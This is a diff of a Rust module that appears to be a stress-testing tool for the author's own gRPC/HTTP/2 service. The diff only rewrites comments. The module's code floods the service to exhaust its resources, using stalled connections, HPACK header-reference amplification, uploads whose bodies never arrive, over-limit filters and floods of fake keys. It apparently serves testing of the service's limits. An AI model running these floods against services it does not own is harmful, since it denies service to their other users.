@@ -1,5 +1,5 @@
-//! Attacks that take what all callers share: connections, memory, request permits, reads, key look-ups and streams. Each
-//! renews what the service takes from it, until the time is over.
+//! Attacks that exhaust shared resources: connections, memory, request permits, reads, key lookups and streams. When
+//! the service takes a resource back, the attack acquires it again, until the time is over.
 
 use std::collections::BTreeMap;
 use std::io;
@@ -16,12 +16,12 @@ use super::frames::{DATA, END_HEADERS, END_STREAM, HEADERS, Raw, WINDOW_UPDATE, 
 use super::http1::exchange;
 
 const HEALTH: &str = "/grpc.health.v1.Health";
-/// How often an attack looks at what became of its streams.
+/// How often an attack checks its streams.
 const TICK: Duration = Duration::from_millis(50);
-/// Streams of a connection that the flood of keys leaves unanswered at most; the service allows 512.
+/// The maximum number of unanswered streams on each connection of `made_up_keys`; the service allows 512.
 const OPEN: usize = 400;
 
-/// A key in the right form, with its checksum, that nobody has.
+/// A well-formed key with a correct checksum that does not exist.
 fn made_up_key(random: &Random) -> String {
     let body = format!("{}_{}", random.base62(12), "x".repeat(43));
     let crc = crc32fast::hash(body.as_bytes());
@@ -29,7 +29,7 @@ fn made_up_key(random: &Random) -> String {
     format!("al_{body}{}", (0..6).rev().map(digit).collect::<String>())
 }
 
-/// The header block of a request.
+/// The HPACK header block of a request.
 fn head(target: &Target, method: &str, path: &str, more: &[(&str, &str)]) -> Vec<u8> {
     let mut block = Vec::new();
     literal(":method", method.as_bytes(), &mut block);
@@ -40,13 +40,13 @@ fn head(target: &Target, method: &str, path: &str, more: &[(&str, &str)]) -> Vec
     block
 }
 
-/// A connection of HTTP/2 whose streams are opened again once they are over, and which is opened again once it is closed.
+/// An HTTP/2 connection that replaces each stream that ends, and reconnects after it was closed.
 struct Streams {
     target: Target,
     raw: Option<Raw>,
-    /// Streams that were opened on this connection.
+    /// Streams opened on the current connection.
     opened: u32,
-    /// Streams that the service answered or reset, and connections that it closed.
+    /// Streams that the service answered or reset. `closed` counts connections that it closed.
     over: usize,
     closed: usize,
 }
@@ -56,18 +56,18 @@ impl Streams {
         Self { target: target.clone(), raw: None, opened: 0, over: 0, closed: 0 }
     }
 
-    /// Opens streams until `most` are open. `request` makes the frames of a stream.
+    /// Opens streams until `most` are open. `request` returns the frames of a stream.
     async fn fill(&mut self, most: usize, request: &mut impl FnMut(&Target, u32) -> Vec<u8>) {
         if self.raw.as_ref().is_none_or(|raw| raw.seen().is_closed) {
             self.closed += usize::from(self.raw.is_some());
             self.over += self.raw.take().map_or(0, |raw| raw.seen().over);
             self.opened = 0;
-            // It may be refused; then again at the next tick.
+            // If the service refuses the connection, the next tick tries again.
             self.raw = Raw::open(&self.target, &[]).await.ok();
         }
         let Some(raw) = &mut self.raw else { return };
         if self.opened == 0 {
-            // All answers are taken, so that none waits for a window.
+            // A large window lets all answers through.
             let mut bytes = Vec::new();
             frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000u32.to_be_bytes(), &mut bytes);
             let _ = raw.send(&bytes).await;
@@ -91,7 +91,7 @@ impl Streams {
     }
 }
 
-/// Keeps `most` streams open on each of so many `connections`, looking at them each `tick`.
+/// Keeps `most` streams open on each of `connections` connections, and checks them every `tick`.
 async fn keep_open(
     target: &Target,
     (connections, most): (usize, usize),
@@ -109,12 +109,12 @@ async fn keep_open(
     all.iter().map(Streams::told).collect::<Vec<_>>().join("; ")
 }
 
-/// More connections than may be open, each with a health check over gRPC-Web whose body does not come. A hundred a second
-/// are opened anew.
+/// More connections than the service allows, each with a gRPC-Web health check whose body never arrives. Opens a
+/// hundred more per second.
 pub async fn stalled_health_checks(target: Target, duration: Duration) -> io::Result<String> {
     const CONNECTIONS: usize = 1_100;
     const OPENERS: usize = 10;
-    /// Of each.
+    /// The interval between two connections of one opener.
     const RENEWAL: Duration = Duration::from_millis(100);
     let request = format!(
         "POST {HEALTH}/Check HTTP/1.1\r\nHost: {}\r\nContent-Type: application/grpc-web+proto\r\nContent-Length: 100\r\n\r\n\0",
@@ -131,7 +131,7 @@ pub async fn stalled_health_checks(target: Target, duration: Duration) -> io::Re
                 stream.write_all(request.as_bytes()).await?;
                 io::Result::Ok(stream)
             };
-            // None is given up, which would leave a place to somebody else.
+            // No connection is dropped, because that would free a slot for another client.
             let mut held = Vec::new();
             while begun.elapsed() < duration {
                 held.extend(open().await.ok());
@@ -146,18 +146,18 @@ pub async fn stalled_health_checks(target: Target, duration: Duration) -> io::Re
     Ok(format!("{opened} connections opened"))
 }
 
-/// Lets this process have as many files open as it may.
+/// Raises the soft limit on open files of this process to the hard limit.
 fn allow_files() {
     let allowed = getrlimit(Resource::Nofile);
-    // Where that is too few, fewer connections are opened.
+    // If the hard limit is too low, fewer connections are opened.
     let _ = setrlimit(Resource::Nofile, Rlimit { current: allowed.maximum, maximum: allowed.maximum });
 }
 
-/// Calls without a key and without a body, with a header that is remembered once and then named 3,700 times by a byte
-/// each, from eight connections with 512 streams.
+/// Calls without a key and without a body. One header enters the HPACK table once and is then referenced 3,700 times, a
+/// byte each. Eight connections with 512 streams each.
 pub async fn repeated_headers(target: Target, duration: Duration) -> io::Result<String> {
     const REFERENCES: usize = 3_700;
-    /// The newest entry of HPACK's dynamic table. Source: RFC 7541, 2.3.3 and 6.1.
+    /// Refers to the newest entry of HPACK's dynamic table. Source: RFC 7541, 2.3.3 and 6.1.
     const NEWEST: u8 = 0x80 | 62;
     let request = |target: &Target, stream: u32| {
         let mut block = head(target, "POST", &format!("{HEALTH}/Check"), &[("content-type", "application/grpc")]);
@@ -174,7 +174,8 @@ pub async fn repeated_headers(target: Target, duration: Duration) -> io::Result<
     Ok(keep_open(&target, (8, 512), (duration, TICK), request).await)
 }
 
-/// Uploads with eight keys that nobody has, whose bodies do not come, over one connection: more than may be under way.
+/// 330 uploads over one connection, with eight keys that do not exist and bodies that never arrive: more than the limit
+/// on requests in flight.
 pub async fn open_uploads(target: Target, duration: Duration) -> io::Result<String> {
     let random = Random::system();
     let keys: Vec<_> = (0..8).map(|_| format!("Bearer {}", made_up_key(&random))).collect();
@@ -189,8 +190,8 @@ pub async fn open_uploads(target: Target, duration: Duration) -> io::Result<Stri
     Ok(keep_open(&target, (1, 330), (duration, TICK), request).await)
 }
 
-/// Lists with a hundred users and a hundred resources, which are too many together, and with as many as there may be, far
-/// into their pages, from 40 connections. Errors: the first are answered.
+/// Lists from 40 connections. One filters by 100 users and 100 resources, which is over the limit. The other uses the
+/// largest allowed filter, 20 users and 50 resources, at a large offset. Errors: the service answers the first.
 pub async fn pairs_of_filters(target: Target, duration: Duration) -> io::Result<String> {
     const CONNECTIONS: usize = 40;
     let Target { address, organization, key } = &target;
@@ -229,7 +230,7 @@ pub async fn pairs_of_filters(target: Target, duration: Duration) -> io::Result<
     Ok(format!("{told:?}"))
 }
 
-/// Keys that nobody has, each another one, as fast as the service answers.
+/// Requests with a different non-existent key each, as fast as the service answers.
 pub async fn made_up_keys(target: Target, duration: Duration) -> io::Result<String> {
     let (path, random) = (format!("/v1/{}/audit-logs", target.organization), Random::system());
     let request = |target: &Target, stream: u32| {
@@ -242,7 +243,7 @@ pub async fn made_up_keys(target: Target, duration: Duration) -> io::Result<Stri
     Ok(keep_open(&target, (3, OPEN), (duration, Duration::from_millis(5)), request).await)
 }
 
-/// Watches the health more often than all callers without a key may together, on one connection.
+/// 130 health watches on one connection, more than the limit for all callers without a key.
 pub async fn watched_health(target: Target, duration: Duration) -> io::Result<String> {
     let request = |target: &Target, stream: u32| {
         let more = [("content-type", "application/grpc"), ("te", "trailers")];
